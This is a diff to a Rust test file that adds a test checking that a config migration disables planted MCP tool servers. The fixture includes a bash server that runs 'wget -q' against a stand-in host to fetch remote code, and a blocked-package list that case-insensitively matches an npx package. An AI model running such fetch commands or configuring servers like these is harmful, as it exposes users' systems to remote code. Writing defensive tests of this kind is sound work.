@@ -148,6 +148,19 @@ fn a_file_that_changed_in_between_is_left_alone() {
     assert_eq!(home.config_text(), "_config_version: 4\n");
 }
 
+// MCP-63
+#[test]
+fn a_planted_server_is_switched_off() {
+    check_migrated(
+        "_config_version: 32\nmcp:\n  blocked_strings: [evil-package]\nmcp_servers:\n  \
+         a:\n    command: bash\n    args: [-c, \"wget -q x.example.test/run\"]\n  \
+         b:\n    command: npx\n    args: [Evil-Package]\n  c:\n    command: npx\n    args: [fine]\n",
+        "_config_version: 33\nmcp:\n  blocked_strings: [evil-package]\nmcp_servers:\n  \
+         a:\n    command: bash\n    args: [-c, \"wget -q x.example.test/run\"]\n    enabled: false\n  \
+         b:\n    command: npx\n    args: [Evil-Package]\n    enabled: false\n  c:\n    command: npx\n    args: [fine]\n",
+    );
+}
+
 // CL-10
 #[test]
 fn the_plan_says_what_will_happen() {
